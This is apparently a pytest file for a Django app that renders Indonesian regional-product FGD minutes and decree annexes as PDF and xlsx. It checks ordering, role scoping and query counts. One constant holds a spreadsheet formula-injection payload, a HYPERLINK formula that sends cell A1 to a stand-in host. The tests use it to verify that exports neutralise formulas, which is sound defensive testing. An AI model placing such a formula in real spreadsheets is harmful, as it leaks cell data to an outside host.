"""PUD printing: the FGD berita acara rendered from the data entered, and the decree annex (PDF and xlsx)
in the order decrees use, scoped, neutralised, in a fixed number of queries."""

import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from pypdf import PdfReader

from pud.models import KategoriKosong, KategoriPUD, KriteriaPUD, NilaiUsulan, PeranPeserta, PesertaFGD, StatusPengajuan
from tests.factories import KecamatanFactory, KelurahanFactory, make_user
from tests.pud.factories import TANGGAL_FGD, UMKMFactory, beri_berita_acara, pengajuan_berstatus, pengajuan_di, usulan_di
from wilayah.periode import hari_tanggal_terbilang, tanggal_id
from wilayah.roles import CAMAT, OPERATOR_KELURAHAN

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"klik")'
NOMOR_KEPUTUSAN = "100.3.3.3/123/KEP/425.012/2026"  # the factories' decree


def teks_pdf(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Security-Policy"] == "sandbox" and response["X-Content-Type-Options"] == "nosniff"
    isi = b"".join(response.streaming_content) if response.streaming else response.content
    teks = "".join(page.extract_text() for page in PdfReader(io.BytesIO(isi)).pages)
    return " ".join(teks.split())


def urutan(teks: str, *kata) -> list[int]:
    posisi = [teks.find(k) for k in kata]
    assert -1 not in posisi, [k for k, p in zip(kata, posisi, strict=True) if p == -1]
    return posisi


# --------------------------------------------------------------------------- the berita acara


@pytest.fixture
def berita_acara(dua_wilayah):
    """Kebonsari Wetan's FGD: participants entered out of role order, a main nomination and an
    alternative in Agro (scored), a main one in Kerajinan, Budaya declared empty with its reason."""
    pengajuan = beri_berita_acara(pengajuan_di(dua_wilayah["kel_a"]))
    pengajuan.nomor_berita_acara = "005/17/425.304.1/2026"
    pengajuan.save()
    for peran, nama, jabatan in [
        (PeranPeserta.UMKM, "Siti Aminah", "Keripik Bu Siti"),
        (PeranPeserta.LURAH, "Bambang Sulistyo, S.Sos", "Lurah Kebonsari Wetan"),
        (PeranPeserta.LPM, "Hadi Purnomo", "Ketua LPM"),
        (PeranPeserta.CAMAT, "Drs. Agus Salim", "Camat Kanigaran"),
        (PeranPeserta.KASI_PEMMAS, "Rina Wahyuni", ""),
    ]:
        PesertaFGD.objects.create(pengajuan=pengajuan, peran=peran, nama=nama, jabatan=jabatan)
    kel = dua_wilayah["kel_a"]
    alternatif = usulan_di(pengajuan, KategoriPUD.AGRO, utama=False, produk="Sari Kedondong", umkm=UMKMFactory(kelurahan=kel, nama_usaha="Kedondong Jaya", pemilik_nama="Pak Darto"))
    utama = usulan_di(pengajuan, KategoriPUD.AGRO, produk="Keripik Mangga Manalagi", umkm=UMKMFactory(kelurahan=kel, nama_usaha="Keripik Bu Siti", pemilik_nama="Siti Aminah"))
    usulan_di(pengajuan, KategoriPUD.KERAJINAN, produk="Batik Tulis Mangrove", umkm=UMKMFactory(kelurahan=kel, nama_usaha="Batik Sekar", pemilik_nama="Dewi Lestari"))
    KategoriKosong.objects.create(pengajuan=pengajuan, kategori=KategoriPUD.BUDAYA, alasan="Sanggar seni belum terdaftar sebagai UMKM.")
    kriteria = list(KriteriaPUD.objects.filter(siklus=pengajuan.siklus))
    NilaiUsulan.objects.bulk_create([NilaiUsulan(usulan=utama, kriteria=k, skor=4) for k in kriteria])
    NilaiUsulan.objects.bulk_create([NilaiUsulan(usulan=alternatif, kriteria=k, skor=2) for k in kriteria])
    pengajuan.bobot_total = sum(k.bobot for k in kriteria)
    return pengajuan


def test_berita_acara_pdf_is_rendered_from_the_data_entered(client, operator_a, berita_acara):
    client.force_login(operator_a)
    teks = teks_pdf(client.get(reverse("pud:pengajuan-berita-acara-pdf", args=[berita_acara.pk])))
    with translation.override("id"):
        hari = hari_tanggal_terbilang(TANGGAL_FGD)
    assert "BERITA ACARA FOCUS GROUP DISCUSSION (FGD) PENENTUAN PRODUK UNGGULAN DAERAH (PUD) KELURAHAN KEBONSARI WETAN TAHUN 2026" in teks
    assert "KECAMATAN KANIGARAN" in teks  # the letterhead
    assert "005/17/425.304.1/2026" in teks
    assert hari in teks and hari.startswith("Senin tanggal dua belas bulan Oktober tahun dua ribu dua puluh enam")
    assert "Ruang Pertemuan Bappeda" in teks
    # Participants by role: camat, lurah, kasi Pemmas, LPM, UMKM (entered in another order).
    urut = urutan(teks, "Drs. Agus Salim", "Bambang Sulistyo, S.Sos", "Rina Wahyuni", "Hadi Purnomo", "Siti Aminah")
    assert urut == sorted(urut)
    # Per category: Agro's main nomination before its alternative, then Kerajinan; Budaya declared empty with its reason.
    urut = urutan(teks, "Kategori Agro", "Keripik Mangga Manalagi", "Sari Kedondong", "Kategori Kerajinan", "Batik Tulis Mangrove", "Kategori Budaya")
    assert urut == sorted(urut)
    assert "Sanggar seni belum terdaftar sebagai UMKM." in teks
    for kata in ("Keripik Bu Siti", "Kedondong Jaya", "Pak Darto", "Batik Sekar", "Dewi Lestari", "Utama", "Alternatif"):
        assert kata in teks, kata
    bobot = berita_acara.bobot_total
    assert f"Keripik Mangga Manalagi {bobot * 4}" in teks and f"Sari Kedondong {bobot * 2}" in teks  # weight x score, summed
    # The signature table (every participant, blank space) and the lurah signing, the camat acknowledging.
    assert "C. Tanda tangan peserta" in teks and "Tanda tangan" in teks
    assert teks.count("Drs. Agus Salim") >= 3  # present, signature row, acknowledger
    assert "Mengetahui," in teks and f"Kebonsari Wetan, {tanggal_id(TANGGAL_FGD)}" in teks
    assert "Lurah Kebonsari Wetan" in teks and "Camat Kanigaran" in teks


def test_berita_acara_pdf_before_the_fgd_leaves_blanks_to_fill_by_hand(client, operator_a, dua_wilayah):
    pengajuan = pengajuan_di(dua_wilayah["kel_a"])
    client.force_login(operator_a)
    teks = teks_pdf(client.get(reverse("pud:pengajuan-berita-acara-pdf", args=[pengajuan.pk])))
    assert "Pada hari ini, ........ tanggal" in teks
    assert "Belum ada peserta tercatat." in teks and teks.count("Belum ada usulan.") == 3
    for peran in ("Camat", "Lurah", "Kasi Pemberdayaan Masyarakat", "LPM", "Perwakilan UMKM"):
        assert peran in teks, peran  # the signature table lists the invited roles


def test_berita_acara_pdf_is_scoped(client, dua_wilayah, berita_acara, camat_a, bappeda, walikota):
    url = reverse("pud:pengajuan-berita-acara-pdf", args=[berita_acara.pk])
    camat_b = make_user(CAMAT, kecamatan=dua_wilayah["kec_b"], username="camat_b")
    operator_b = make_user(OPERATOR_KELURAHAN, kelurahan=dua_wilayah["kel_b"], username="operator_b")
    for user, status in ((camat_b, 404), (operator_b, 404), (camat_a, 200), (bappeda, 200), (walikota, 200)):
        client.force_login(user)
        assert client.get(url).status_code == status, user.username
    client.logout()
    response = client.get(url)
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_berita_acara_pdf_query_count_does_not_grow_with_nominations(client, operator_a, berita_acara, django_assert_max_num_queries):
    client.force_login(operator_a)
    url = reverse("pud:pengajuan-berita-acara-pdf", args=[berita_acara.pk])
    with django_assert_max_num_queries(10):
        client.get(url)
    for _ in range(5):
        usulan_di(berita_acara, KategoriPUD.KERAJINAN, utama=False)
        PesertaFGD.objects.create(pengajuan=berita_acara, peran=PeranPeserta.UMKM, nama="Perwakilan lain")
    with django_assert_max_num_queries(10):
        client.get(url)


# --------------------------------------------------------------------------- the decree annex


def _ditetapkan(kelurahan, produk: dict, *, nomor=NOMOR_KEPUTUSAN):
    """A determined pengajuan whose main nominations are created Budaya, Kerajinan, Agro (against the
    decree's order, so the annex has to order them), each with its own UMKM."""
    pengajuan = beri_berita_acara(pengajuan_di(kelurahan))
    for kategori in (KategoriPUD.BUDAYA, KategoriPUD.KERAJINAN, KategoriPUD.AGRO):
        nama = produk[kategori]
        umkm = UMKMFactory(kelurahan=kelurahan, kategori=kategori, nama_usaha=f"Usaha {nama}", pemilik_nama=f"Pemilik {nama}", alamat=f"Jl. {nama} 1")
        usulan_di(pengajuan, kategori, umkm=umkm, produk=nama)
    pengajuan.status = StatusPengajuan.DITETAPKAN
    pengajuan.nomor_keputusan, pengajuan.tanggal_keputusan = nomor, dt.date(2026, 11, 2)
    pengajuan.save()
    return pengajuan


def _produk(awalan: str) -> dict:
    return {KategoriPUD.AGRO: f"{awalan} Agro", KategoriPUD.KERAJINAN: f"{awalan} Kerajinan", KategoriPUD.BUDAYA: f"{awalan} Budaya"}


@pytest.fixture
def putaran(dua_wilayah):
    """Determined: Kebonsari Wetan (35.74.04.1004) and Kanigaran (35.74.04.1001) in kecamatan Kanigaran
    (35.74.04), Ketapang (35.74.01.1001) in Kademangan (35.74.01); created in that order, so neither the
    pk nor the names give the decree's order. Not in the annex: an alternative, a verified kelurahan."""
    kel_a2 = KelurahanFactory(kode="35.74.04.1001", nama="Kanigaran", kecamatan=dua_wilayah["kec_a"])
    kel_c = KelurahanFactory(kode="35.74.04.1002", nama="Tisnonegaran", kecamatan=dua_wilayah["kec_a"])
    wetan = _ditetapkan(dua_wilayah["kel_a"], _produk("Wetan"))
    _ditetapkan(kel_a2, _produk("Kanigaran"))
    _ditetapkan(dua_wilayah["kel_b"], {**_produk("Ketapang"), KategoriPUD.AGRO: HYPERLINK})
    usulan_di(wetan, KategoriPUD.AGRO, utama=False, produk="Produk Alternatif")
    diverifikasi = pengajuan_berstatus(kel_c, StatusPengajuan.DIVERIFIKASI)
    diverifikasi.usulan_set.update(produk="Produk Belum Ditetapkan")
    return wetan.siklus


URUTAN_LAMPIRAN = [
    # Kademangan (35.74.01) before Kanigaran (35.74.04); in Kanigaran 1001 before 1004; Agro, Kerajinan, Budaya.
    ("Kademangan", "Ketapang", "Agro", HYPERLINK), ("Kademangan", "Ketapang", "Kerajinan", "Ketapang Kerajinan"),
    ("Kademangan", "Ketapang", "Budaya", "Ketapang Budaya"),
    ("Kanigaran", "Kanigaran", "Agro", "Kanigaran Agro"), ("Kanigaran", "Kanigaran", "Kerajinan", "Kanigaran Kerajinan"),
    ("Kanigaran", "Kanigaran", "Budaya", "Kanigaran Budaya"),
    ("Kanigaran", "Kebonsari Wetan", "Agro", "Wetan Agro"), ("Kanigaran", "Kebonsari Wetan", "Kerajinan", "Wetan Kerajinan"),
    ("Kanigaran", "Kebonsari Wetan", "Budaya", "Wetan Budaya"),
]  # fmt: skip


def baca_xlsx(response) -> list[tuple]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    sel = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in sel)
    return list(wb.active.values)


def test_lampiran_xlsx_in_the_decree_order_with_neutralised_cells(client, bappeda, putaran):
    client.force_login(bappeda)
    baris = baca_xlsx(client.get(reverse("pud:lampiran-xlsx", args=[putaran.pk])))
    assert list(baris[0]) == ["No", "Kecamatan", "Kelurahan", "Kategori", "Produk", "Nama UMKM", "Pemilik", "Alamat"]
    data = [b for b in baris[1:] if b[0] is not None]
    assert [(b[1], b[2], b[3], b[4].removeprefix("'")) for b in data] == URUTAN_LAMPIRAN
    assert [b[0] for b in data] == list(range(1, 10))
    assert data[0][4] == "'" + HYPERLINK  # a product named like a formula is text, not a formula
    wetan = data[6]
    assert wetan[5:] == ("Usaha Wetan Agro", "Pemilik Wetan Agro", "Jl. Wetan Agro 1")
    subtotal = [b[1] for b in baris[1:] if b[0] is None]
    assert subtotal == [
        "Jumlah Kecamatan Kademangan: 3 produk unggulan dari 1 kelurahan", "Jumlah Kecamatan Kanigaran: 6 produk unggulan dari 2 kelurahan",
    ]  # fmt: skip
    semua = " ".join(str(v) for b in baris for v in b)
    assert "Produk Alternatif" not in semua and "Produk Belum Ditetapkan" not in semua


def test_lampiran_pdf_in_the_decree_order_with_the_shared_decree(client, bappeda, putaran):
    client.force_login(bappeda)
    teks = teks_pdf(client.get(reverse("pud:lampiran-pdf", args=[putaran.pk])))
    assert "LAMPIRAN KEPUTUSAN WALI KOTA PROBOLINGGO" in teks and "PRODUK UNGGULAN DAERAH KELURAHAN DAN KECAMATAN" in teks
    assert NOMOR_KEPUTUSAN in teks and "2 November 2026" in teks
    produk = [p.split("(")[0] for *_, p in URUTAN_LAMPIRAN]  # the formula-like name wraps in its cell: its start
    urut = urutan(teks, "KECAMATAN KADEMANGAN", *produk[:3], "Jumlah Kecamatan Kademangan",
                  "KECAMATAN KANIGARAN", *produk[3:], "Jumlah Kecamatan Kanigaran")  # fmt: skip
    assert urut == sorted(urut)
    assert "Usaha Wetan Budaya" in teks and "Pemilik Wetan Budaya" in teks and "Jl. Wetan Budaya 1" in teks
    assert "Produk Alternatif" not in teks and "Produk Belum Ditetapkan" not in teks


def test_lampiran_prints_no_decree_number_when_the_rows_do_not_share_one(client, bappeda, putaran, dua_wilayah):
    kel = KelurahanFactory(kode="35.74.01.1002", nama="Pilang", kecamatan=dua_wilayah["kec_b"])
    _ditetapkan(kel, _produk("Pilang"), nomor="100.3.3.3/999/KEP/425.012/2026")
    client.force_login(bappeda)
    teks = teks_pdf(client.get(reverse("pud:lampiran-pdf", args=[putaran.pk])))
    assert NOMOR_KEPUTUSAN not in teks and "999/KEP" not in teks and "NOMOR : ....." in teks
    assert "Pilang Agro" in teks


def test_lampiran_lists_what_the_user_may_see(client, putaran, camat_a, operator_a, walikota):
    """A camat: their kecamatan only; a kelurahan operator: their kelurahan; the mayor's office: all."""
    for user, kelurahan in ((camat_a, {"Kanigaran", "Kebonsari Wetan"}), (operator_a, {"Kebonsari Wetan"}), (walikota, {"Ketapang", "Kanigaran", "Kebonsari Wetan"})):
        client.force_login(user)
        baris = baca_xlsx(client.get(reverse("pud:lampiran-xlsx", args=[putaran.pk])))
        assert {b[2] for b in baris[1:] if b[0] is not None} == kelurahan, user.username
        teks = teks_pdf(client.get(reverse("pud:lampiran-pdf", args=[putaran.pk])))
        assert ("Ketapang Budaya" in teks) == ("Ketapang" in kelurahan), user.username


def test_lampiran_needs_a_login_and_an_existing_round(client, putaran, bappeda):
    for nama in ("pud:lampiran-pdf", "pud:lampiran-xlsx"):
        response = client.get(reverse(nama, args=[putaran.pk]))
        assert response.status_code == 302 and reverse("login") in response["Location"]
    client.force_login(bappeda)
    for nama in ("pud:lampiran-pdf", "pud:lampiran-xlsx"):
        assert client.get(reverse(nama, args=[putaran.pk + 100])).status_code == 404


def test_lampiran_of_a_round_without_determined_pud(client, bappeda, dua_wilayah):
    pengajuan = pengajuan_berstatus(dua_wilayah["kel_a"], StatusPengajuan.DIVERIFIKASI)
    client.force_login(bappeda)
    teks = teks_pdf(client.get(reverse("pud:lampiran-pdf", args=[pengajuan.siklus_id])))
    assert "Belum ada Produk Unggulan Daerah yang ditetapkan" in teks
    assert baca_xlsx(client.get(reverse("pud:lampiran-xlsx", args=[pengajuan.siklus_id])))[1:] == []


def test_lampiran_query_count_is_fixed(client, bappeda, putaran, django_assert_max_num_queries):
    client.force_login(bappeda)
    urls = [reverse(n, args=[putaran.pk]) for n in ("pud:lampiran-pdf", "pud:lampiran-xlsx")]
    for url in urls:
        with django_assert_max_num_queries(7):
            assert client.get(url).status_code == 200
    for i in range(4):
        kec = KecamatanFactory(kode=f"35.74.{20 + i}", nama=f"Kecamatan {i}")
        _ditetapkan(KelurahanFactory(kode=f"35.74.{20 + i}.1001", kecamatan=kec), _produk(f"Tambahan {i}"))
    for url in urls:
        with django_assert_max_num_queries(7):
            assert client.get(url).status_code == 200
